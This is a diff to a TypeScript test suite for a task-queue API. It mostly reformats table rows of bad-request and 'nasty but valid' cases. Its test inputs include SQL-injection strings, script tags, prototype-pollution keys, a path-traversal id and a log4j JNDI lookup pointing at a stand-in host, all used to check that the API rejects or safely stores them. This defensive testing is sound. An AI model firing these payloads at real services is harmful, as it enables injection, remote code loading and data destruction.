@@ -54,8 +54,24 @@ const badRequests: BadRequestRow[] = [
   // --- POST /tasks: title ---
   { name: 'title missing', method: 'post', path: TASKS, json: { description: 'no title' }, status: 400, code: 'VALIDATION_FAILED', fields: ['title'] },
   { name: 'title empty', method: 'post', path: TASKS, json: { title: '' }, status: 400, code: 'VALIDATION_FAILED', fields: ['title'] },
-  { name: 'title only spaces (empty after trimming)', method: 'post', path: TASKS, json: { title: '     ' }, status: 400, code: 'VALIDATION_FAILED', fields: ['title'] },
-  { name: 'title only tabs and newlines (empty after trimming)', method: 'post', path: TASKS, json: { title: '\t\n \r\n' }, status: 400, code: 'VALIDATION_FAILED', fields: ['title'] },
+  {
+    name: 'title only spaces (empty after trimming)',
+    method: 'post',
+    path: TASKS,
+    json: { title: '     ' },
+    status: 400,
+    code: 'VALIDATION_FAILED',
+    fields: ['title'],
+  },
+  {
+    name: 'title only tabs and newlines (empty after trimming)',
+    method: 'post',
+    path: TASKS,
+    json: { title: '\t\n \r\n' },
+    status: 400,
+    code: 'VALIDATION_FAILED',
+    fields: ['title'],
+  },
   { name: 'title of 201 characters', method: 'post', path: TASKS, json: { title: 'x'.repeat(201) }, status: 400, code: 'VALIDATION_FAILED', fields: ['title'] },
   { name: 'title a number', method: 'post', path: TASKS, json: { title: 42 }, status: 400, code: 'VALIDATION_FAILED', fields: ['title'] },
   { name: 'title an array', method: 'post', path: TASKS, json: { title: ['a', 'b'] }, status: 400, code: 'VALIDATION_FAILED', fields: ['title'] },
@@ -95,7 +111,15 @@ const badRequests: BadRequestRow[] = [
   },
 
   // --- description ---
-  { name: 'description a number', method: 'post', path: TASKS, json: { title: 't', description: 5 }, status: 400, code: 'VALIDATION_FAILED', fields: ['description'] },
+  {
+    name: 'description a number',
+    method: 'post',
+    path: TASKS,
+    json: { title: 't', description: 5 },
+    status: 400,
+    code: 'VALIDATION_FAILED',
+    fields: ['description'],
+  },
   {
     name: 'description of 5,001 characters',
     method: 'post',
@@ -107,20 +131,76 @@ const badRequests: BadRequestRow[] = [
   },
 
   // --- priority ---
-  { name: 'priority lowercase', method: 'post', path: TASKS, json: { title: 't', priority: 'high' }, status: 400, code: 'VALIDATION_FAILED', fields: ['priority'] },
-  { name: 'priority unknown (URGENT)', method: 'post', path: TASKS, json: { title: 't', priority: 'URGENT' }, status: 400, code: 'VALIDATION_FAILED', fields: ['priority'] },
+  {
+    name: 'priority lowercase',
+    method: 'post',
+    path: TASKS,
+    json: { title: 't', priority: 'high' },
+    status: 400,
+    code: 'VALIDATION_FAILED',
+    fields: ['priority'],
+  },
+  {
+    name: 'priority unknown (URGENT)',
+    method: 'post',
+    path: TASKS,
+    json: { title: 't', priority: 'URGENT' },
+    status: 400,
+    code: 'VALIDATION_FAILED',
+    fields: ['priority'],
+  },
   { name: 'priority a number', method: 'post', path: TASKS, json: { title: 't', priority: 2 }, status: 400, code: 'VALIDATION_FAILED', fields: ['priority'] },
 
   // --- maxAttempts ---
   { name: 'maxAttempts 0', method: 'post', path: TASKS, json: { title: 't', maxAttempts: 0 }, status: 400, code: 'VALIDATION_FAILED', fields: ['maxAttempts'] },
-  { name: 'maxAttempts 21', method: 'post', path: TASKS, json: { title: 't', maxAttempts: 21 }, status: 400, code: 'VALIDATION_FAILED', fields: ['maxAttempts'] },
-  { name: 'maxAttempts 1.5', method: 'post', path: TASKS, json: { title: 't', maxAttempts: 1.5 }, status: 400, code: 'VALIDATION_FAILED', fields: ['maxAttempts'] },
-  { name: 'maxAttempts the string "3"', method: 'post', path: TASKS, json: { title: 't', maxAttempts: '3' }, status: 400, code: 'VALIDATION_FAILED', fields: ['maxAttempts'] },
-  { name: 'maxAttempts 1e308', method: 'post', path: TASKS, raw: '{"title":"t","maxAttempts":1e308}', status: 400, code: 'VALIDATION_FAILED', fields: ['maxAttempts'] },
+  {
+    name: 'maxAttempts 21',
+    method: 'post',
+    path: TASKS,
+    json: { title: 't', maxAttempts: 21 },
+    status: 400,
+    code: 'VALIDATION_FAILED',
+    fields: ['maxAttempts'],
+  },
+  {
+    name: 'maxAttempts 1.5',
+    method: 'post',
+    path: TASKS,
+    json: { title: 't', maxAttempts: 1.5 },
+    status: 400,
+    code: 'VALIDATION_FAILED',
+    fields: ['maxAttempts'],
+  },
+  {
+    name: 'maxAttempts the string "3"',
+    method: 'post',
+    path: TASKS,
+    json: { title: 't', maxAttempts: '3' },
+    status: 400,
+    code: 'VALIDATION_FAILED',
+    fields: ['maxAttempts'],
+  },
+  {
+    name: 'maxAttempts 1e308',
+    method: 'post',
+    path: TASKS,
+    raw: '{"title":"t","maxAttempts":1e308}',
+    status: 400,
+    code: 'VALIDATION_FAILED',
+    fields: ['maxAttempts'],
+  },
 
   // --- payload ---
   { name: 'payload an array', method: 'post', path: TASKS, json: { title: 't', payload: [1, 2] }, status: 400, code: 'VALIDATION_FAILED', fields: ['payload'] },
-  { name: 'payload a string', method: 'post', path: TASKS, json: { title: 't', payload: '{"ms":1}' }, status: 400, code: 'VALIDATION_FAILED', fields: ['payload'] },
+  {
+    name: 'payload a string',
+    method: 'post',
+    path: TASKS,
+    json: { title: 't', payload: '{"ms":1}' },
+    status: 400,
+    code: 'VALIDATION_FAILED',
+    fields: ['payload'],
+  },
   { name: 'payload null', method: 'post', path: TASKS, json: { title: 't', payload: null }, status: 400, code: 'VALIDATION_FAILED', fields: ['payload'] },
   {
     // 70 KiB of payload: over the 64 KiB payload limit, far under the 1 MiB body limit.
@@ -132,7 +212,15 @@ const badRequests: BadRequestRow[] = [
     code: 'VALIDATION_FAILED',
     fields: ['payload'],
   },
-  { name: 'noop payload of 70 KiB names payload', method: 'post', path: TASKS, json: { title: 't', payload: { blob: 'p'.repeat(70 * 1024) } }, status: 400, code: 'VALIDATION_FAILED', fields: ['payload'] },
+  {
+    name: 'noop payload of 70 KiB names payload',
+    method: 'post',
+    path: TASKS,
+    json: { title: 't', payload: { blob: 'p'.repeat(70 * 1024) } },
+    status: 400,
+    code: 'VALIDATION_FAILED',
+    fields: ['payload'],
+  },
   {
     // Postgres' jsonb refuses \u0000 in strings: the API must refuse it, not fail on the INSERT.
     name: 'payload string containing a NUL character',
@@ -146,15 +234,47 @@ const badRequests: BadRequestRow[] = [
 
   // --- runAt ---
   { name: 'runAt not a date', method: 'post', path: TASKS, json: { title: 't', runAt: 'tomorrow' }, status: 400, code: 'VALIDATION_FAILED', fields: ['runAt'] },
-  { name: 'runAt an impossible date (30 February)', method: 'post', path: TASKS, json: { title: 't', runAt: '2027-02-30T10:00:00Z' }, status: 400, code: 'VALIDATION_FAILED', fields: ['runAt'] },
-  { name: 'runAt a number (epoch millis)', method: 'post', path: TASKS, json: { title: 't', runAt: 1_800_000_000_000 }, status: 400, code: 'VALIDATION_FAILED', fields: ['runAt'] },
+  {
+    name: 'runAt an impossible date (30 February)',
+    method: 'post',
+    path: TASKS,
+    json: { title: 't', runAt: '2027-02-30T10:00:00Z' },
+    status: 400,
+    code: 'VALIDATION_FAILED',
+    fields: ['runAt'],
+  },
+  {
+    name: 'runAt a number (epoch millis)',
+    method: 'post',
+    path: TASKS,
+    json: { title: 't', runAt: 1_800_000_000_000 },
+    status: 400,
+    code: 'VALIDATION_FAILED',
+    fields: ['runAt'],
+  },
 
   // --- type ---
   { name: 'type with uppercase', method: 'post', path: TASKS, json: { title: 't', type: 'Noop' }, status: 400, code: 'VALIDATION_FAILED', fields: ['type'] },
   { name: 'type with spaces', method: 'post', path: TASKS, json: { title: 't', type: 'my type' }, status: 400, code: 'VALIDATION_FAILED', fields: ['type'] },
   { name: 'type a number', method: 'post', path: TASKS, json: { title: 't', type: 7 }, status: 400, code: 'VALIDATION_FAILED', fields: ['type'] },
-  { name: 'type with a SQL fragment', method: 'post', path: TASKS, json: { title: 't', type: "noop'; DROP TABLE tasks;--" }, status: 400, code: 'VALIDATION_FAILED', fields: ['type'] },
-  { name: 'type with a script fragment', method: 'post', path: TASKS, json: { title: 't', type: '<script>alert(1)</script>' }, status: 400, code: 'VALIDATION_FAILED', fields: ['type'] },
+  {
+    name: 'type with a SQL fragment',
+    method: 'post',
+    path: TASKS,
+    json: { title: 't', type: "noop'; DROP TABLE tasks;--" },
+    status: 400,
+    code: 'VALIDATION_FAILED',
+    fields: ['type'],
+  },
+  {
+    name: 'type with a script fragment',
+    method: 'post',
+    path: TASKS,
+    json: { title: 't', type: '<script>alert(1)</script>' },
+    status: 400,
+    code: 'VALIDATION_FAILED',
+    fields: ['type'],
+  },
   {
     name: 'type unknown lists the known types',
     method: 'post',
@@ -171,9 +291,33 @@ const badRequests: BadRequestRow[] = [
 
   // --- payloads of known types ---
   { name: 'sleep payload ms -1', method: 'post', path: TASKS, json: sleepTask(-1), status: 400, code: 'VALIDATION_FAILED', fields: ['payload.ms'] },
-  { name: 'sleep payload ms 600001 (over 10 minutes)', method: 'post', path: TASKS, json: sleepTask(600_001), status: 400, code: 'VALIDATION_FAILED', fields: ['payload.ms'] },
-  { name: 'sleep payload without ms', method: 'post', path: TASKS, json: { title: 'nap', type: 'sleep', payload: {} }, status: 400, code: 'VALIDATION_FAILED', fields: ['payload.ms'] },
-  { name: 'sleep without any payload', method: 'post', path: TASKS, json: { title: 'nap', type: 'sleep' }, status: 400, code: 'VALIDATION_FAILED', fields: ['payload.ms'] },
+  {
+    name: 'sleep payload ms 600001 (over 10 minutes)',
+    method: 'post',
+    path: TASKS,
+    json: sleepTask(600_001),
+    status: 400,
+    code: 'VALIDATION_FAILED',
+    fields: ['payload.ms'],
+  },
+  {
+    name: 'sleep payload without ms',
+    method: 'post',
+    path: TASKS,
+    json: { title: 'nap', type: 'sleep', payload: {} },
+    status: 400,
+    code: 'VALIDATION_FAILED',
+    fields: ['payload.ms'],
+  },
+  {
+    name: 'sleep without any payload',
+    method: 'post',
+    path: TASKS,
+    json: { title: 'nap', type: 'sleep' },
+    status: 400,
+    code: 'VALIDATION_FAILED',
+    fields: ['payload.ms'],
+  },
   { name: 'sleep payload ms a string', method: 'post', path: TASKS, json: sleepTask('100'), status: 400, code: 'VALIDATION_FAILED', fields: ['payload.ms'] },
   {
     name: 'http.request payload with an ftp url',
@@ -220,7 +364,15 @@ const badRequests: BadRequestRow[] = [
     code: 'VALIDATION_FAILED',
     fields: ['payload.headers'],
   },
-  { name: 'fail payload times "x"', method: 'post', path: TASKS, json: { title: 't', type: 'fail', payload: { times: 'x' } }, status: 400, code: 'VALIDATION_FAILED', fields: ['payload.times'] },
+  {
+    name: 'fail payload times "x"',
+    method: 'post',
+    path: TASKS,
+    json: { title: 't', type: 'fail', payload: { times: 'x' } },
+    status: 400,
+    code: 'VALIDATION_FAILED',
+    fields: ['payload.times'],
+  },
 
   // --- nested junk and unknown fields ---
   {
@@ -241,9 +393,33 @@ const badRequests: BadRequestRow[] = [
     code: 'VALIDATION_FAILED',
     fields: ['payload'],
   },
-  { name: 'unknown top-level field', method: 'post', path: TASKS, json: { title: 't', owner: 'mallory' }, status: 400, code: 'VALIDATION_FAILED', fields: ['owner'] },
-  { name: 'client-chosen id refused', method: 'post', path: TASKS, json: { title: 't', id: SOME_UUID }, status: 400, code: 'VALIDATION_FAILED', fields: ['id'] },
-  { name: 'client-chosen status refused', method: 'post', path: TASKS, json: { title: 't', status: 'COMPLETED' }, status: 400, code: 'VALIDATION_FAILED', fields: ['status'] },
+  {
+    name: 'unknown top-level field',
+    method: 'post',
+    path: TASKS,
+    json: { title: 't', owner: 'mallory' },
+    status: 400,
+    code: 'VALIDATION_FAILED',
+    fields: ['owner'],
+  },
+  {
+    name: 'client-chosen id refused',
+    method: 'post',
+    path: TASKS,
+    json: { title: 't', id: SOME_UUID },
+    status: 400,
+    code: 'VALIDATION_FAILED',
+    fields: ['id'],
+  },
+  {
+    name: 'client-chosen status refused',
+    method: 'post',
+    path: TASKS,
+    json: { title: 't', status: 'COMPLETED' },
+    status: 400,
+    code: 'VALIDATION_FAILED',
+    fields: ['status'],
+  },
   {
     // Fastify's JSON parser refuses __proto__ keys outright (prototype poisoning): the body is refused as malformed.
     name: '__proto__ key at the top level',
@@ -253,7 +429,14 @@ const badRequests: BadRequestRow[] = [
     status: 400,
     code: 'MALFORMED_BODY',
   },
-  { name: '__proto__ key inside the payload', method: 'post', path: TASKS, raw: '{"title":"t","payload":{"__proto__":{"x":1}}}', status: 400, code: 'MALFORMED_BODY' },
+  {
+    name: '__proto__ key inside the payload',
+    method: 'post',
+    path: TASKS,
+    raw: '{"title":"t","payload":{"__proto__":{"x":1}}}',
+    status: 400,
+    code: 'MALFORMED_BODY',
+  },
   {
     // constructor.prototype is refused by the parser the same way.
     name: 'constructor.prototype key at the top level',
@@ -263,8 +446,24 @@ const badRequests: BadRequestRow[] = [
     status: 400,
     code: 'MALFORMED_BODY',
   },
-  { name: 'constructor key at the top level (unknown field)', method: 'post', path: TASKS, raw: '{"title":"t","constructor":"x"}', status: 400, code: 'VALIDATION_FAILED', fields: ['constructor'] },
-  { name: 'constructor key inside a noop payload', method: 'post', path: TASKS, raw: '{"title":"t","payload":{"constructor":"x"}}', status: 400, code: 'VALIDATION_FAILED', fields: ['payload.constructor'] },
+  {
+    name: 'constructor key at the top level (unknown field)',
+    method: 'post',
+    path: TASKS,
+    raw: '{"title":"t","constructor":"x"}',
+    status: 400,
+    code: 'VALIDATION_FAILED',
+    fields: ['constructor'],
+  },
+  {
+    name: 'constructor key inside a noop payload',
+    method: 'post',
+    path: TASKS,
+    raw: '{"title":"t","payload":{"constructor":"x"}}',
+    status: 400,
+    code: 'VALIDATION_FAILED',
+    fields: ['payload.constructor'],
+  },
   {
     // JSON.parse keeps the last of duplicate keys, so this is {"title": ""}: refused for its empty title.
     // (The reverse order is valid and stores the last title: see the valid table.)
@@ -299,7 +498,15 @@ const badRequests: BadRequestRow[] = [
   },
 
   // --- content types ---
-  { name: 'content-type text/plain', method: 'post', path: TASKS, raw: '{"title":"t"}', contentType: 'text/plain', status: 415, code: 'UNSUPPORTED_MEDIA_TYPE' },
+  {
+    name: 'content-type text/plain',
+    method: 'post',
+    path: TASKS,
+    raw: '{"title":"t"}',
+    contentType: 'text/plain',
+    status: 415,
+    code: 'UNSUPPORTED_MEDIA_TYPE',
+  },
   {
     name: 'content-type application/x-www-form-urlencoded',
     method: 'post',
@@ -309,10 +516,34 @@ const badRequests: BadRequestRow[] = [
     status: 415,
     code: 'UNSUPPORTED_MEDIA_TYPE',
   },
-  { name: 'content-type application/xml', method: 'post', path: TASKS, raw: '<task><title>t</title></task>', contentType: 'application/xml', status: 415, code: 'UNSUPPORTED_MEDIA_TYPE' },
-  { name: 'content-type application/vnd.api+json (no parser)', method: 'post', path: TASKS, raw: '{"title":"t"}', contentType: 'application/vnd.api+json', status: 415, code: 'UNSUPPORTED_MEDIA_TYPE' },
+  {
+    name: 'content-type application/xml',
+    method: 'post',
+    path: TASKS,
+    raw: '<task><title>t</title></task>',
+    contentType: 'application/xml',
+    status: 415,
+    code: 'UNSUPPORTED_MEDIA_TYPE',
+  },
+  {
+    name: 'content-type application/vnd.api+json (no parser)',
+    method: 'post',
+    path: TASKS,
+    raw: '{"title":"t"}',
+    contentType: 'application/vnd.api+json',
+    status: 415,
+    code: 'UNSUPPORTED_MEDIA_TYPE',
+  },
   { name: 'no content type with a body', method: 'post', path: TASKS, raw: '{"title":"t"}', contentType: null, status: 415, code: 'UNSUPPORTED_MEDIA_TYPE' },
-  { name: 'batch with content-type text/plain', method: 'post', path: `${TASKS}/batch`, raw: '{"tasks":[{"title":"t"}]}', contentType: 'text/plain', status: 415, code: 'UNSUPPORTED_MEDIA_TYPE' },
+  {
+    name: 'batch with content-type text/plain',
+    method: 'post',
+    path: `${TASKS}/batch`,
+    raw: '{"tasks":[{"title":"t"}]}',
+    contentType: 'text/plain',
+    status: 415,
+    code: 'UNSUPPORTED_MEDIA_TYPE',
+  },
 
   // --- Idempotency-Key ---
   {
@@ -349,7 +580,14 @@ const badRequests: BadRequestRow[] = [
   // --- path ids ---
   { name: 'GET /tasks/123 (not a UUID)', method: 'get', path: `${TASKS}/123`, status: 400, code: 'VALIDATION_FAILED', fields: ['id'] },
   { name: 'GET /tasks/..%2Fetc (not a UUID)', method: 'get', path: `${TASKS}/..%2Fetc`, status: 400, code: 'VALIDATION_FAILED', fields: ['id'] },
-  { name: 'GET /tasks/{UUID with a trailing character}', method: 'get', path: `${TASKS}/${SOME_UUID}x`, status: 400, code: 'VALIDATION_FAILED', fields: ['id'] },
+  {
+    name: 'GET /tasks/{UUID with a trailing character}',
+    method: 'get',
+    path: `${TASKS}/${SOME_UUID}x`,
+    status: 400,
+    code: 'VALIDATION_FAILED',
+    fields: ['id'],
+  },
   {
     name: 'GET /tasks/{url-encoded SQL fragment}',
     method: 'get',
@@ -381,20 +619,69 @@ const badRequests: BadRequestRow[] = [
   { name: 'GET /tasks/123/events (not a UUID)', method: 'get', path: `${TASKS}/123/events`, status: 400, code: 'VALIDATION_FAILED', fields: ['id'] },
 
   // --- GET /tasks filters ---
-  { name: 'list with a garbage cursor', method: 'get', path: `${TASKS}?cursor=${encodeURIComponent('!!garbage!!')}`, status: 400, code: 'VALIDATION_FAILED', fields: ['cursor'] },
-  { name: 'list with a cursor that is base64 of garbage', method: 'get', path: `${TASKS}?cursor=${base64url('garbage{')}`, status: 400, code: 'VALIDATION_FAILED', fields: ['cursor'] },
-  { name: 'list with a cursor that is base64 of ["x","y"]', method: 'get', path: `${TASKS}?cursor=${base64url('["x","y"]')}`, status: 400, code: 'VALIDATION_FAILED', fields: ['cursor'] },
-  { name: 'list with a cursor of 300 characters', method: 'get', path: `${TASKS}?cursor=${'A'.repeat(300)}`, status: 400, code: 'VALIDATION_FAILED', fields: ['cursor'] },
+  {
+    name: 'list with a garbage cursor',
+    method: 'get',
+    path: `${TASKS}?cursor=${encodeURIComponent('!!garbage!!')}`,
+    status: 400,
+    code: 'VALIDATION_FAILED',
+    fields: ['cursor'],
+  },
+  {
+    name: 'list with a cursor that is base64 of garbage',
+    method: 'get',
+    path: `${TASKS}?cursor=${base64url('garbage{')}`,
+    status: 400,
+    code: 'VALIDATION_FAILED',
+    fields: ['cursor'],
+  },
+  {
+    name: 'list with a cursor that is base64 of ["x","y"]',
+    method: 'get',
+    path: `${TASKS}?cursor=${base64url('["x","y"]')}`,
+    status: 400,
+    code: 'VALIDATION_FAILED',
+    fields: ['cursor'],
+  },
+  {
+    name: 'list with a cursor of 300 characters',
+    method: 'get',
+    path: `${TASKS}?cursor=${'A'.repeat(300)}`,
+    status: 400,
+    code: 'VALIDATION_FAILED',
+    fields: ['cursor'],
+  },
   { name: 'list with limit 0', method: 'get', path: `${TASKS}?limit=0`, status: 400, code: 'VALIDATION_FAILED', fields: ['limit'] },
   { name: 'list with limit 101', method: 'get', path: `${TASKS}?limit=101`, status: 400, code: 'VALIDATION_FAILED', fields: ['limit'] },
   { name: 'list with limit -1', method: 'get', path: `${TASKS}?limit=-1`, status: 400, code: 'VALIDATION_FAILED', fields: ['limit'] },
   { name: 'list with limit abc', method: 'get', path: `${TASKS}?limit=abc`, status: 400, code: 'VALIDATION_FAILED', fields: ['limit'] },
   { name: 'list with limit 1e2', method: 'get', path: `${TASKS}?limit=1e2`, status: 400, code: 'VALIDATION_FAILED', fields: ['limit'] },
   { name: 'list with status DONE', method: 'get', path: `${TASKS}?status=DONE`, status: 400, code: 'VALIDATION_FAILED', fields: ['status'] },
-  { name: 'list with status NEW,DONE (one bad in a list)', method: 'get', path: `${TASKS}?status=NEW,DONE`, status: 400, code: 'VALIDATION_FAILED', fields: ['status'] },
-  { name: 'list with status given twice', method: 'get', path: `${TASKS}?status=NEW&status=FAILED`, status: 400, code: 'VALIDATION_FAILED', fields: ['status'] },
+  {
+    name: 'list with status NEW,DONE (one bad in a list)',
+    method: 'get',
+    path: `${TASKS}?status=NEW,DONE`,
+    status: 400,
+    code: 'VALIDATION_FAILED',
+    fields: ['status'],
+  },
+  {
+    name: 'list with status given twice',
+    method: 'get',
+    path: `${TASKS}?status=NEW&status=FAILED`,
+    status: 400,
+    code: 'VALIDATION_FAILED',
+    fields: ['status'],
+  },
   { name: 'list with priority URGENT', method: 'get', path: `${TASKS}?priority=URGENT`, status: 400, code: 'VALIDATION_FAILED', fields: ['priority'] },
-  { name: 'list with type "Bad Type"', method: 'get', path: `${TASKS}?type=${encodeURIComponent('Bad Type')}`, status: 400, code: 'VALIDATION_FAILED', fields: ['type'] },
+  {
+    name: 'list with type "Bad Type"',
+    method: 'get',
+    path: `${TASKS}?type=${encodeURIComponent('Bad Type')}`,
+    status: 400,
+    code: 'VALIDATION_FAILED',
+    fields: ['type'],
+  },
   {
     name: 'list with a SQL fragment as type',
     method: 'get',
@@ -517,7 +804,11 @@ const nastyButValid: NastyButValidRow[] = [
   { name: 'title with a SQL injection', body: { title: "'; DROP TABLE tasks; --" }, title: "'; DROP TABLE tasks; --" },
   { name: 'title with a classic quote-and-comment', body: { title: "Robert'); DROP TABLE students;--" }, title: "Robert'); DROP TABLE students;--" },
   { name: 'title with a script tag', body: { title: '<script>alert("x")</script>' }, title: '<script>alert("x")</script>' },
-  { name: 'title with a template and a log4j lookup', body: { title: '${jndi:ldap://evil.test/a} {{7*7}} %s%n' }, title: '${jndi:ldap://evil.test/a} {{7*7}} %s%n' },
+  {
+    name: 'title with a template and a log4j lookup',
+    body: { title: '${jndi:ldap://evil.test/a} {{7*7}} %s%n' },
+    title: '${jndi:ldap://evil.test/a} {{7*7}} %s%n',
+  },
   { name: 'title with backslashes and JSON-looking text', body: { title: '\\"},{"status":"COMPLETED' }, title: '\\"},{"status":"COMPLETED' },
   { name: 'title of 200 emoji (astral characters)', body: { title: '😀'.repeat(200) }, title: '😀'.repeat(200) },
   { name: 'title with right-to-left and zero-width characters', body: { title: 'a\u202Eb\u200Bc' }, title: 'a\u202Eb\u200Bc' },
@@ -635,7 +926,10 @@ describe('bad input: a clear 4xx, nothing written, the process keeps serving', (
   });
 
   it('still serves after the whole catalogue: a valid POST /api/v1/tasks answers 201', async () => {
-    const res = await request(api.getHttpServer()).post(TASKS).send({ title: 'still here', type: 'sleep', payload: { ms: 10 } }).expect(201);
+    const res = await request(api.getHttpServer())
+      .post(TASKS)
+      .send({ title: 'still here', type: 'sleep', payload: { ms: 10 } })
+      .expect(201);
     expect(res.headers.location).toBe(`${TASKS}/${res.body.id}`);
     await request(api.getHttpServer()).get(`${TASKS}/${res.body.id}`).expect(200);
   });
